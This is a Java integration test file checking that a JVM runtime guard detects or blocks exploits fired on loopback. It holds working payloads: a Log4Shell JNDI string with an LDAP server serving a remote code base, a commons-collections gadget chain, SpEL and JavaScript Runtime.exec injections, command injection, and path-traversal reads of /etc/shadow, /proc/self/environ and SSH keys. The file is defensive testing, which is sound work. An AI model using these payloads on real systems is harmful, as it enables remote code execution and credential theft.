package dev.vigil.metrics.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import com.sun.tools.attach.VirtualMachine;
import com.unboundid.ldap.listener.InMemoryDirectoryServer;
import com.unboundid.ldap.listener.InMemoryDirectoryServerConfig;
import com.unboundid.ldap.listener.InMemoryListenerConfig;
import com.unboundid.ldap.listener.interceptor.InMemoryInterceptedSearchResult;
import com.unboundid.ldap.listener.interceptor.InMemoryOperationInterceptor;
import com.unboundid.ldap.sdk.Entry;
import com.unboundid.ldap.sdk.LDAPResult;
import com.unboundid.ldap.sdk.ResultCode;
import dev.vigil.metrics.agent.guard.FalcoShape;
import dev.vigil.testsupport.Requirements;
import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.lang.reflect.Field;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.regex.Pattern;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The runtime guard against real exploits, on loopback: Log4Shell (log4j-core 2.14.1 logging a header, answered by an
 * in-memory UnboundID LDAP server with a remote code base), a commons-collections 3.2.1 gadget chain posted to a
 * deserializing endpoint, a command from a parameter and a read of {@code /proc/self/environ} (a file named in the
 * built-in rules). Detect mode reports each with its route and lets it happen; block mode stops each before it has any
 * effect and the application keeps serving.
 */
class GuardIT {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path tmp;

    private InMemoryDirectoryServer ldap;
    private final List<String> ldapLog = new CopyOnWriteArrayList<>();
    private HttpServer codebase;
    private final AtomicInteger codebaseRequests = new AtomicInteger();

    @BeforeEach
    void startLdapTrapAndCodeBase() throws Exception {
        codebase = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        codebase.createContext("/", exchange -> {
            codebaseRequests.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        codebase.start();
        InMemoryDirectoryServerConfig config = new InMemoryDirectoryServerConfig("dc=vigil,dc=test");
        config.setListenerConfigs(
                InMemoryListenerConfig.createLDAPConfig("loopback", InetAddress.getLoopbackAddress(), 0, null));
        config.setAccessLogHandler(new Handler() {
            @Override
            public void publish(LogRecord r) {
                ldapLog.add(r.getMessage());
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        });
        String codebaseUrl = "http://127.0.0.1:" + codebase.getAddress().getPort() + "/";
        config.addInMemoryOperationInterceptor(new InMemoryOperationInterceptor() {
            @Override
            public void processSearchResult(InMemoryInterceptedSearchResult result) {
                // what marshalsec's LDAPRefServer answers: a reference whose factory lives at a remote code base
                try {
                    Entry e = new Entry(result.getRequest().getBaseDN());
                    e.addAttribute("objectClass", "javaNamingReference");
                    e.addAttribute("javaClassName", "Exploit");
                    e.addAttribute("javaFactory", "Exploit");
                    e.addAttribute("javaCodeBase", codebaseUrl);
                    result.sendSearchEntry(e);
                    result.setResult(new LDAPResult(0, ResultCode.SUCCESS));
                } catch (Exception e) {
                    throw new IllegalStateException(e);
                }
            }
        });
        ldap = new InMemoryDirectoryServer(config);
        ldap.startListening();
    }

    @AfterEach
    void stop() {
        ldap.shutDown(true);
        codebase.stop(0);
    }

    @Test
    void detectModeReportsEachExploitWithItsRouteAndLetsItHappen() throws Exception {
        Path marker = tmp.resolve("gadget-ran");
        Path execMarker = tmp.resolve("exec-ran");
        try (SampleApp app = SampleApp.start(
                "guard",
                SampleApp.java17(),
                "port=0,guard=detect",
                List.of("jetty12", "guard"),
                "GuardApp",
                List.of(),
                "0",
                List.of("-Dguard.app.startupScript=true"))) {
            assertThat(app.get("/ordinary")).isEqualTo(200);

            assertThat(app.get("/hello", "X-Api-Version", log4Shell())).isEqualTo(200);
            JsonNode jndi = awaitEvent(app, "jndi-remote-lookup");
            assertThat(fields(jndi))
                    .containsEntry("http.route", "/hello")
                    .containsEntry("http.method", "GET")
                    .containsEntry("jndi.url", "ldap://127.0.0.1:" + ldap.getListenPort() + "/o=exploit");
            assertThat(jndi.get("priority").asText()).isEqualTo("Critical");
            assertThat(ldapLog).as("the lookup reached the LDAP server").anyMatch(l -> l.contains("SEARCH REQUEST"));

            assertThat(post(app, "/deserialize", gadgetChain("touch " + marker)))
                    .isEqualTo(200);
            assertThat(lastPost.body()).startsWith("read java.util.HashSet");
            JsonNode gadget = awaitEvent(app, "deserialize-gadget-class");
            assertThat(fields(gadget))
                    .containsEntry("http.route", "/deserialize")
                    .containsEntry("http.method", "POST");
            assertThat(fields(gadget).get("class.name")).startsWith("org.apache.commons.collections.functors.");
            JsonNode spawned = awaitEvent(app, "process-in-deserialization");
            assertThat(fields(spawned).get("proc.cmdline")).isEqualTo("/bin/sh -c touch " + marker);
            assertThat(fields(spawned).get("java.stack")).contains("org.apache.commons.collections.functors");
            // the gadget calls Runtime.exec without waiting for the process: the file appears when `touch` has run
            assertThat(awaitFile(marker)).as("detect mode changes nothing").exists();

            assertThat(app.get("/exec?cmd=touch%20" + execMarker)).isEqualTo(200);
            JsonNode exec = awaitEvent(app, "process-in-request");
            assertThat(fields(exec))
                    .containsEntry("http.route", "/exec")
                    .containsEntry("proc.cmdline", "/bin/sh -c touch " + execMarker)
                    .containsEntry("proc.name", "sh");
            assertThat(execMarker).exists();

            assertThat(app.body("/price?currency=EUR")).isEqualTo("120\n");
            assertThat(app.body("/spel?expr=6*7")).isEqualTo("42\n");
            JsonNode spel = awaitEvent(app, "script-from-request");
            assertThat(fields(spel))
                    .containsEntry("http.route", "/spel")
                    .containsEntry("script.length", "3")
                    .containsEntry(
                            "script.engine", "org.springframework.expression.spel.standard.SpelExpressionParser");

            assertThat(app.log()).contains("start-up script says answer 42");
            assertThat(app.body("/script-constant?currency=EUR")).startsWith("120");
            assertThat(app.body("/script?code=6*7")).isEqualTo("42\n");
            assertThat(app.body("/script?as=reader&code=" + enc("'ab' + 'cd'"))).isEqualTo("abcd\n");
            assertThat(app.body("/script?as=compile&code=" + enc("40 + 2"))).isEqualTo("42\n");
            assertThat(events(app))
                    .filteredOn(e -> e.get("rule").asText().equals("script-from-request"))
                    .extracting(e -> fields(e).get("script.engine") + " "
                            + fields(e).get("script.length") + " " + fields(e).get("http.route"))
                    .as("JSR-223: eval(String), eval(Reader), compile(String), each one event; the constant script"
                            + " at start-up and in /script-constant none")
                    .containsExactly(
                            "org.springframework.expression.spel.standard.SpelExpressionParser 3 /spel",
                            "org.openjdk.nashorn.api.scripting.NashornScriptEngine 3 /script",
                            "org.openjdk.nashorn.api.scripting.NashornScriptEngine 11 /script",
                            "org.openjdk.nashorn.api.scripting.NashornScriptEngine 6 /script");

            assertThat(app.get("/file?name=/proc/self/environ")).isEqualTo(200);
            JsonNode file = awaitEvent(app, "sensitive-file-read");
            assertThat(fields(file))
                    .containsEntry("fd.name", "/proc/self/environ")
                    .containsEntry("http.route", "/file");

            List<JsonNode> all = events(app);
            assertThat(all).allSatisfy(e -> assertThat(tags(e)).contains("detected"));
            assertThat(all)
                    .as("start-up process, a String deserialized, ordinary reads and a java: name are no events")
                    .extracting(e -> e.get("rule").asText())
                    .containsOnly(
                            "jndi-remote-lookup",
                            "deserialize-gadget-class",
                            "process-in-deserialization",
                            "process-in-request",
                            "script-from-request",
                            "sensitive-file-read");
            assertThat(eventLines(app))
                    .as("no header, query string or request body in an event")
                    .noneMatch(l -> l.contains("${jndi") || l.contains("cmd=") || l.contains("X-Api-Version"));
            assertThat(codebaseRequests).hasValue(0);

            String metrics = app.scrape(null);
            assertThat(metrics)
                    .contains("vigil_guard_events_total{action=\"detected\",priority=\"Critical\","
                            + "rule=\"jndi-remote-lookup\"} 1.0")
                    .contains("vigil_guard_events_total{action=\"detected\",priority=\"Warning\","
                            + "rule=\"sensitive-file-read\"} 1.0")
                    .contains("vigil_guard_events_total{action=\"detected\",priority=\"Critical\","
                            + "rule=\"process-in-request\"} 1.0");
            assertThat(Pattern.compile("vigil_guard_events_total\\{action=\"[a-z]+\",priority=\"[A-Za-z]+\","
                                    + "rule=\"[a-z-]+\"} ")
                            .matcher(metrics)
                            .results()
                            .count())
                    .as("exactly the labels rule, priority, action")
                    .isEqualTo(metrics.lines()
                            .filter(l -> l.startsWith("vigil_guard_events_total{"))
                            .count());
            Tools.Result lint =
                    Tools.promtoolCheckMetrics(Requirements.tool("promtool", "Debian package prometheus"), metrics);
            assertThat(lint.output()).isEmpty();

            Path prometheus = Requirements.tool("prometheus", "Debian package prometheus");
            int port = Tools.freePort();
            Process server = PrometheusIT.startPrometheus(prometheus, tmp, app.metricsPort(), port);
            try {
                String answer = PrometheusIT.poll(
                        port, "vigil_guard_events_total{rule=\"jndi-remote-lookup\",action=\"detected\"}", "\"1\"");
                assertThat(answer).contains("\"priority\":\"Critical\"");
            } finally {
                PrometheusIT.stop(server);
            }
        }
    }

    @Test
    void blockModeStopsEachExploitBeforeItsEffectAndTheAppKeepsServing() throws Exception {
        Path marker = tmp.resolve("gadget-ran");
        Path execMarker = tmp.resolve("exec-ran");
        try (SampleApp app = start(SampleApp.java25(), "port=0,guard=block")) {
            assertThat(app.get("/hello", "X-Api-Version", log4Shell())).isEqualTo(200);
            JsonNode jndi = awaitEvent(app, "jndi-remote-lookup");
            assertThat(tags(jndi)).contains("blocked");
            assertThat(fields(jndi)).containsEntry("http.route", "/hello");
            assertThat(ldapLog).as("no connection reached the LDAP server").isEmpty();
            assertThat(codebaseRequests).as("no remote class was fetched").hasValue(0);

            assertThat(body(post(app, "/deserialize", gadgetChain("touch " + marker))))
                    .contains("rule deserialize-gadget-class");
            assertThat(marker).doesNotExist();

            assertThat(app.body("/ordinary")).startsWith("ok a string");

            HttpResponse<String> exec = getResponse(app, "/exec?cmd=touch%20" + execMarker);
            assertThat(exec.statusCode()).isEqualTo(403);
            assertThat(exec.body()).contains("rule process-in-request");
            assertThat(execMarker).doesNotExist();

            Path spelMarker = tmp.resolve("spel-ran");
            HttpResponse<String> spel = getResponse(
                    app,
                    "/spel?expr="
                            + java.net.URLEncoder.encode(
                                    "T(java.lang.Runtime).getRuntime().exec('touch " + spelMarker + "')",
                                    java.nio.charset.StandardCharsets.UTF_8));
            assertThat(spel.statusCode()).isEqualTo(403);
            assertThat(spel.body()).contains("rule script-from-request");
            assertThat(spelMarker).doesNotExist();
            assertThat(app.body("/price")).isEqualTo("120\n");
            Path jsMarker = tmp.resolve("js-ran");
            HttpResponse<String> js = getResponse(
                    app, "/script?code=" + enc("java.lang.Runtime.getRuntime().exec('touch " + jsMarker + "')"));
            assertThat(js.statusCode()).isEqualTo(403);
            assertThat(js.body()).as("stopped at eval, before the process").contains("rule script-from-request");
            assertThat(jsMarker).doesNotExist();
            assertThat(app.body("/script-constant")).startsWith("120");

            long firstRead = System.nanoTime();
            HttpResponse<String> file = getResponse(app, "/file?name=/proc/self/environ");
            assertThat(file.statusCode()).isEqualTo(403);
            assertThat(file.body()).contains("rule sensitive-file-read");
            // procfs refuses the write anyway (mode 0400), so a guard that failed could not damage anything here
            HttpResponse<String> write = getResponse(app, "/write?name=/proc/self/environ");
            assertThat(write.statusCode()).isEqualTo(403);
            assertThat(write.body()).contains("rule sensitive-file-write");

            // a flood from an unauthenticated client: 200 concurrent attempts, at most guard.rate (20) events written
            List<java.util.concurrent.CompletableFuture<HttpResponse<Void>>> flood = new ArrayList<>();
            for (int i = 0; i < 200; i++) {
                flood.add(SampleApp.HTTP.sendAsync(
                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + app.port() + "/file?name=/etc/shadow"))
                                .build(),
                        HttpResponse.BodyHandlers.discarding()));
            }
            for (var f : flood) {
                assertThat(f.get().statusCode()).isEqualTo(403);
            }
            // 20 per 10-s window; the window opened at the first read, so the flood may reach into a second one
            long windows = 2 + (System.nanoTime() - firstRead) / 10_000_000_000L;
            assertThat(events(app))
                    .filteredOn(e -> e.get("rule").asText().equals("sensitive-file-read"))
                    .as("rate-limited per rule")
                    .hasSizeBetween(20, (int) (20 * windows));
            assertThat(app.scrape(null))
                    .as("every attempt counted")
                    .contains("vigil_guard_events_total{action=\"blocked\",priority=\"Warning\","
                            + "rule=\"sensitive-file-read\"} 201.0");

            assertThat(events(app)).allSatisfy(e -> assertThat(tags(e)).contains("blocked"));
            assertThat(events(app)).noneMatch(e -> e.get("rule").asText().equals("process-in-deserialization"));
            assertThat(app.scrape(null))
                    .contains("vigil_guard_events_total{action=\"blocked\",priority=\"Critical\","
                            + "rule=\"jndi-remote-lookup\"} 1.0")
                    .doesNotContain("action=\"detected\"");
        }
    }

    /** The file APIs of {@code GuardApp.Read} that open a file for reading. */
    private static final List<String> READ_APIS = List.of(
            "FileInputStream",
            "FileReader",
            "newInputStream",
            "newByteChannel",
            "readAllBytes",
            "readString",
            "lines",
            "RandomAccessFile",
            "FileChannel",
            "AsynchronousFileChannel",
            "copy");

    @Test
    void everyFileApiIsJudgedByTheRealTargetAndOrdinaryFilesAndLinksToThemStayQuiet() throws Exception {
        Path plain = Files.writeString(tmp.resolve("plain.txt"), "hello\n");
        Path plainLink = Files.createSymbolicLink(tmp.resolve("to-plain.txt"), plain);
        Path shadowLink = Files.createSymbolicLink(tmp.resolve("x"), Path.of("/etc/shadow"));
        Path etcLink = Files.createSymbolicLink(tmp.resolve("conf"), Path.of("/etc"));
        Path gshadowLink = Files.createSymbolicLink(tmp.resolve("g"), Path.of("/etc/gshadow"));
        Path environLink = Files.createSymbolicLink(tmp.resolve("env"), Path.of("/proc/self/environ"));
        try (SampleApp app = start(SampleApp.java17(), "port=0,guard=detect")) {
            for (String api : READ_APIS) {
                for (Path ordinary : List.of(plain, plainLink)) {
                    assertThat(read(app, api, ordinary.toString()).statusCode())
                            .as(api + " " + ordinary)
                            .isEqualTo(200);
                }
            }
            assertThat(read(app, "file-url", plainLink.toUri().toString()).statusCode())
                    .isEqualTo(200);
            assertThat(eventLines(app)).as("ordinary files and links to them").isEmpty();

            String pid = Long.toString(app.pid());
            // api, path as the application names it, the real target the event must name
            List<List<String>> doors = List.of(
                    List.of("FileInputStream", shadowLink.toString(), "/etc/shadow"),
                    List.of("FileReader", "/tmp/../etc/shadow", "/etc/shadow"),
                    List.of("file-url", "file:///tmp/../etc/%73hadow", "/etc/shadow"),
                    List.of("newInputStream", "//etc///shadow", "/etc/shadow"),
                    List.of("newByteChannel", "/proc/self/../self/environ", "/proc/self/environ"),
                    List.of("readAllBytes", "/proc/" + pid + "/environ", "/proc/" + pid + "/environ"),
                    List.of("readString", "/proc/thread-self/environ", "/proc/thread-self/environ"),
                    List.of("lines", "../../../../../../../../../../../../../../etc/shadow", "/etc/shadow"),
                    List.of("RandomAccessFile", etcLink + "/shadow", "/etc/shadow"),
                    List.of("FileChannel", "/proc/self/root/etc/shadow", "/etc/shadow"),
                    List.of("AsynchronousFileChannel", gshadowLink.toString(), "/etc/gshadow"),
                    List.of("copy", shadowLink.toString(), "/etc/shadow"));
            for (List<String> door : doors) {
                HttpResponse<String> r = read(app, door.get(0), door.get(1));
                assertThat(r.statusCode()).as(door + ": " + r.body()).isEqualTo(200);
            }
            read(app, "FileWriter", environLink.toString()); // procfs may refuse the open: only the event matters

            List<JsonNode> reads = events(app).stream()
                    .filter(e -> e.get("rule").asText().equals("sensitive-file-read"))
                    .toList();
            assertThat(reads)
                    .extracting(e -> fields(e).get("fd.name"))
                    .as("detect mode: one event per door, naming the real target")
                    .containsExactlyElementsOf(doors.stream().map(d -> d.get(2)).toList());
            assertThat(reads)
                    .allSatisfy(e -> assertThat(fields(e))
                            .containsEntry("http.route", "/read")
                            .containsEntry("fd.access", "read"));
            assertThat(fields(reads.get(0))).containsEntry("fd.requested", shadowLink.toString());
            assertThat(fields(awaitEvent(app, "sensitive-file-write")))
                    .containsEntry("fd.name", "/proc/" + pid + "/environ")
                    .containsEntry("fd.requested", environLink.toString());
            assertThat(eventLines(app)).hasSize(doors.size() + 1);
        }
    }

    @Test
    void blockedFileAccessOpensNothingWhicheverDoorAndLinkIsUsed() throws Exception {
        // ~/.ssh of the application's user (user.home moved here) holds a FIFO: opening it would hang until a writer
        // comes, so a door the guard failed to close shows as a request that does not come back
        Path home = Files.createDirectories(tmp.toRealPath().resolve("home"));
        Path ssh = Files.createDirectories(home.resolve(".ssh"));
        Path key = ssh.resolve("id_ed25519");
        assertThat(new ProcessBuilder("mkfifo", key.toString()).start().waitFor())
                .isZero();
        Path keyLink = Files.createSymbolicLink(tmp.resolve("notes.txt"), key);
        Path newKeys = Files.createSymbolicLink(tmp.resolve("todo.txt"), ssh.resolve("authorized_keys"));
        Path plainLink = Files.createSymbolicLink(
                tmp.resolve("to-plain.txt"), Files.writeString(tmp.resolve("plain.txt"), "hello\n"));
        try (SampleApp app = SampleApp.start(
                "guard",
                SampleApp.java25(),
                "port=0,guard=block",
                List.of("jetty12", "guard"),
                "GuardApp",
                List.of(),
                "0",
                List.of("-Duser.home=" + home))) {
            for (String api : READ_APIS) {
                HttpResponse<String> r = read(app, api, keyLink.toString());
                assertThat(r.statusCode()).as(api + ": " + r.body()).isEqualTo(403);
                assertThat(r.body()).contains("rule sensitive-file-read");
                assertThat(read(app, api, plainLink.toString()).statusCode())
                        .as(api + ", a link to an ordinary file")
                        .isEqualTo(200);
            }
            assertThat(read(app, "file-url", keyLink.toUri().toString()).statusCode())
                    .isEqualTo(403);
            HttpResponse<String> write = read(app, "FileWriter", newKeys.toString());
            assertThat(write.statusCode()).isEqualTo(403);
            assertThat(write.body()).contains("rule sensitive-file-write");
            assertThat(ssh.resolve("authorized_keys"))
                    .as("the dangling link's target was not created")
                    .doesNotExist();
            assertThat(events(app))
                    .filteredOn(e -> e.get("rule").asText().equals("sensitive-file-read"))
                    .hasSize(READ_APIS.size() + 1)
                    .allSatisfy(e -> assertThat(fields(e))
                            .containsEntry("fd.name", key.toString())
                            .containsEntry("fd.requested", keyLink.toString())
                            .containsEntry("http.route", "/read"));
            assertThat(fields(awaitEvent(app, "sensitive-file-write")))
                    .containsEntry("fd.name", ssh.resolve("authorized_keys").toString());
            assertThat(app.get("/ordinary")).isEqualTo(200);
        }
    }

    private static String enc(String s) {
        return java.net.URLEncoder.encode(s, java.nio.charset.StandardCharsets.UTF_8);
    }

    private static HttpResponse<String> read(SampleApp app, String api, String name) throws Exception {
        return SampleApp.HTTP.send(
                HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + app.port() + "/read?api=" + api + "&name="
                                + java.net.URLEncoder.encode(name, java.nio.charset.StandardCharsets.UTF_8)))
                        .timeout(Duration.ofSeconds(20))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void unlistedClassesOutboundConnectionsOutsideTheEgressListAndRemoteCodeBasesAreBlocked() throws Exception {
        int port = codebase.getAddress().getPort();
        try (SampleApp app = start(
                SampleApp.java17(),
                "port=0,guard=block,guard.egress=localhost|api.example.com,guard.allowClasses=com.acme.")) {
            assertThat(post(app, "/deserialize", serialized(new ArrayList<>(List.of("a", "b")))))
                    .as("JDK collections and strings are always allowed")
                    .isEqualTo(200);
            assertThat(body(post(app, "/deserialize", serialized(new InetSocketAddress("127.0.0.1", 1)))))
                    .contains("rule deserialize-unlisted-class");
            assertThat(fields(awaitEvent(app, "deserialize-unlisted-class")))
                    .containsEntry("class.name", "java.net.InetSocketAddress");

            assertThat(getResponse(app, "/connect?host=localhost&port=" + port).statusCode())
                    .as("a listed host")
                    .isEqualTo(200);
            assertThat(events(app))
                    .extracting(e -> e.get("rule").asText())
                    .containsExactly("deserialize-unlisted-class");

            HttpResponse<String> connect = getResponse(app, "/connect?host=127.0.0.1&port=" + port);
            assertThat(connect.statusCode()).isEqualTo(403);
            assertThat(connect.body()).contains("rule egress-not-allowed");
            assertThat(fields(awaitEvent(app, "egress-not-allowed")))
                    .containsEntry("net.host", "127.0.0.1")
                    .containsEntry("net.port", Integer.toString(port))
                    .containsEntry("http.route", "/connect");

            HttpResponse<String> load = getResponse(app, "/classload?codebase=http://localhost:" + port + "/classes/");
            assertThat(load.statusCode()).isEqualTo(403);
            assertThat(load.body()).contains("rule remote-class-load");
            assertThat(fields(awaitEvent(app, "remote-class-load")))
                    .containsEntry("class.name", "Exploit")
                    .containsEntry("class.codebase", "http://localhost:" + port + "/classes/");
            assertThat(codebaseRequests).as("the class was never fetched").hasValue(0);
            assertThat(getResponse(app, "/classload?codebase=file:/nonexistent/")
                            .statusCode())
                    .as("a local code base")
                    .isEqualTo(404);
            assertThat(events(app)).hasSize(3);
        }
    }

    @Test
    void attachedAtRunTimeTheGuardBlocksInAlreadyLoadedJdkClassesAndAnotherAgentCanRetransformThem() throws Exception {
        try (SampleApp app = start(SampleApp.java17(), null)) {
            assertThat(getResponse(app, "/file?name=/proc/self/environ").statusCode())
                    .isEqualTo(200);
            Path portFile = tmp.resolve("port");

            VirtualMachine vm = VirtualMachine.attach(Long.toString(app.pid()));
            try {
                vm.loadAgent(
                        SampleApp.AGENT_JAR.toAbsolutePath().toString(), "port=0,guard=block,portFile=" + portFile);
            } finally {
                vm.detach();
            }

            assertThat(getResponse(app, "/file?name=/proc/self/environ").statusCode())
                    .isEqualTo(403);
            assertThat(getResponse(app, "/exec?cmd=true").statusCode()).isEqualTo(403);
            assertThat(fields(awaitEvent(app, "process-in-request"))).containsEntry("http.route", "/exec");
            assertThat(app.get("/ordinary")).isEqualTo(200);

            // another agent retransforms the woven JDK classes: the JVM accepts it and the guard still holds
            VirtualMachine other = VirtualMachine.attach(Long.toString(app.pid()));
            try {
                other.loadAgent(retransformerJar().toString());
            } finally {
                other.detach();
            }
            assertThat(app.log())
                    .contains("retransformed java.io.FileInputStream", "retransformed java.lang.ProcessBuilder")
                    .doesNotContain("could not retransform");
            assertThat(getResponse(app, "/file?name=/proc/self/environ").statusCode())
                    .isEqualTo(403);
            assertThat(app.get("/ordinary")).isEqualTo(200);
        }
    }

    @Test
    void offByDefaultNoGuardClassIsLoadedAndNothingIsReported() throws Exception {
        try (SampleApp app = start(SampleApp.java17(), "port=0")) {
            assertThat(getResponse(app, "/file?name=/proc/self/environ").statusCode())
                    .isEqualTo(200);
            assertThat(app.get("/hello", "X-Api-Version", log4Shell())).isEqualTo(200);
            Process jcmd = new ProcessBuilder(
                            Path.of(SampleApp.java17(), "bin", "jcmd").toString(),
                            Long.toString(app.pid()),
                            "VM.class_hierarchy")
                    .redirectErrorStream(true)
                    .start();
            String classes = new String(jcmd.getInputStream().readAllBytes());
            assertThat(jcmd.waitFor()).isZero();
            assertThat(classes).contains("dev.vigil.metrics.agent.MetricsAgent");
            assertThat(classes).doesNotContain("dev.vigil.metrics.agent.guard.");
            assertThat(eventLines(app)).isEmpty();
            assertThat(app.scrape(null))
                    .contains("http_server_requests_seconds_count")
                    .doesNotContain("vigil_guard");
        }
    }

    @Test
    void customRulesFireThroughTheSamePipelineAndEventsGoToAFileAndOnePostPerEventToACollector() throws Exception {
        List<String> posts = new CopyOnWriteArrayList<>();
        List<String> contentTypes = new CopyOnWriteArrayList<>();
        HttpServer collector = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        collector.createContext("/events", exchange -> {
            contentTypes.add(exchange.getRequestHeaders().getFirst("Content-Type"));
            posts.add(new String(exchange.getRequestBody().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8));
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        collector.start();
        int collectorPort = collector.getAddress().getPort();
        Path rules = tmp.resolve("rules.yaml");
        Files.writeString(rules, """
                - rule: canary-command
                  desc: A command with the canary word
                  priority: Alert
                  condition: kind == "process" && proc.cmdline.contains("canary")
                  output: "canary command run (command=%proc.cmdline route=%http.route)"
                  tags: [canary]
                  exceptions:
                    - name: known-good
                      condition: proc.cmdline.contains("canary-ok")
                # would fire for the guard's own POSTs and file writes if the guard looked at its outputs' threads
                - rule: connect-to-collector
                  desc: d
                  priority: Notice
                  condition: kind == "connect" && net.port == "PORT"
                  output: connect %net.host
                - rule: events-file
                  desc: d
                  priority: Notice
                  condition: kind == "file" && fd.name.endsWith("events.jsonl")
                  output: file %fd.name
                """.replace("PORT", Integer.toString(collectorPort)));
        Path eventsFile = tmp.resolve("events.jsonl");
        try (SampleApp app = start(
                SampleApp.java17(),
                "port=0,guard=detect,guard.rules=" + rules + ",guard.output=stderr|" + eventsFile + "|http://127.0.0.1:"
                        + collectorPort + "/events")) {
            assertThat(app.log()).contains("3 custom rules from " + rules);
            assertThat(app.get("/exec?cmd=echo%20canary-ok")).isEqualTo(200);
            awaitEvent(app, "process-in-request");
            assertThat(app.get("/exec?cmd=echo%20canary")).isEqualTo(200);
            JsonNode canary = awaitEvent(app, "canary-command");
            assertThat(canary.get("priority").asText()).isEqualTo("Alert");
            assertThat(canary.get("output").asText())
                    .isEqualTo("canary command run (command=/bin/sh -c echo canary route=/exec)");
            assertThat(tags(canary)).containsExactly("vigil", "canary", "detected");
            assertThat(fields(canary)).containsEntry("http.method", "GET").containsKey("java.stack");

            List<String> stderrEvents = eventLines(app);
            assertThat(stderrEvents)
                    .extracting(l -> JSON.readTree(l).get("rule").asText())
                    .as("the exception held for canary-ok; the outputs' own connections and writes are no events")
                    .containsExactly("process-in-request", "process-in-request", "canary-command");
            assertThat(Files.readAllLines(eventsFile)).isEqualTo(stderrEvents);
            long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
            while (posts.size() < stderrEvents.size() && System.nanoTime() < deadline) {
                Thread.sleep(50);
            }
            Thread.sleep(300); // nothing more may arrive
            assertThat(posts).as("one POST per event").isEqualTo(stderrEvents);
            for (String post : posts) {
                FalcoShape.check(JSON.readTree(post));
            }
            assertThat(contentTypes).allMatch(t -> t.startsWith("application/json"));
            assertThat(eventLines(app)).hasSize(3);

            String metrics = app.scrape(null);
            assertThat(metrics)
                    .contains("vigil_guard_events_total{action=\"detected\",priority=\"Alert\","
                            + "rule=\"canary-command\"} 1.0")
                    .doesNotContain("connect-to-collector")
                    .as("the outputs' POSTs are not the application's HTTP client calls")
                    .doesNotContain("http_client_requests_seconds_count");
        } finally {
            collector.stop(0);
        }
    }

    @Test
    void aRulesFileThatDoesNotCompileOrABadOutputIsOneLineAndTheAppRunsWithoutTheAgent() throws Exception {
        Path bad = tmp.resolve("bad-rules.yaml");
        Files.writeString(bad, "- rule: r\n  desc: d\n  priority: Notice\n  condition: prc.x == 'a'\n  output: o\n");
        try (SampleApp app = start(SampleApp.java17(), "port=0,guard=block,guard.rules=" + bad)) {
            assertThat(app.log())
                    .contains("[vigil-metrics] WARN invalid metrics configuration:\n  - " + bad
                            + ":4: field 'condition': does not compile: undeclared reference to 'prc' (at 1:1)\n"
                            + "the application continues without metrics")
                    .doesNotContain("runtime guard on")
                    .doesNotContain("\tat ");
            assertThat(app.metricsPort()).isEqualTo(-1);
            assertThat(getResponse(app, "/file?name=/proc/self/environ").statusCode())
                    .as("no guard half-installed")
                    .isEqualTo(200);
            assertThat(app.get("/ordinary")).isEqualTo(200);
        }
        try (SampleApp app = start(SampleApp.java17(), "port=0,guard=detect,guard.output=ftp://collector/")) {
            assertThat(app.log())
                    .contains("  - guard.output 'ftp://collector/': unsupported scheme 'ftp', expected stderr, stdout,"
                            + " a file path or an http(s):// URL\nthe application continues without metrics");
            assertThat(app.get("/ordinary")).isEqualTo(200);
        }
    }

    /** {@code src/it/samples/guard-retransformer} as an agent jar. */
    private Path retransformerJar() throws Exception {
        Path classes = Files.createDirectories(tmp.resolve("retransformer-classes"));
        Path source = SampleApp.SAMPLES.resolve("guard-retransformer").resolve("GuardRetransformer.java");
        int rc = javax.tools.ToolProvider.getSystemJavaCompiler()
                .run(null, null, null, "--release", "17", "-d", classes.toString(), source.toString());
        assertThat(rc).as("compiling %s", source).isZero();
        java.util.jar.Manifest manifest = new java.util.jar.Manifest();
        manifest.getMainAttributes().put(java.util.jar.Attributes.Name.MANIFEST_VERSION, "1.0");
        manifest.getMainAttributes().putValue("Agent-Class", "GuardRetransformer");
        manifest.getMainAttributes().putValue("Can-Retransform-Classes", "true");
        Path jar = tmp.resolve("guard-retransformer.jar");
        try (java.util.jar.JarOutputStream out =
                new java.util.jar.JarOutputStream(Files.newOutputStream(jar), manifest)) {
            out.putNextEntry(new java.util.jar.JarEntry("GuardRetransformer.class"));
            out.write(Files.readAllBytes(classes.resolve("GuardRetransformer.class")));
            out.closeEntry();
        }
        return jar;
    }

    private static SampleApp start(String javaHome, String agentArgs) throws Exception {
        return SampleApp.start("guard", javaHome, agentArgs, List.of("jetty12", "guard"), "GuardApp", List.of(), "0");
    }

    private String log4Shell() {
        return "${jndi:ldap://127.0.0.1:" + ldap.getListenPort() + "/o=exploit}";
    }

    /**
     * A commons-collections 3.2.1 chain (ysoserial's CommonsCollections6 shape): a HashSet holding a TiedMapEntry over a
     * LazyMap whose factory is a ChainedTransformer calling {@code Runtime.getRuntime().exec(command)} — run by
     * {@code HashSet.readObject} hashing the entry.
     */
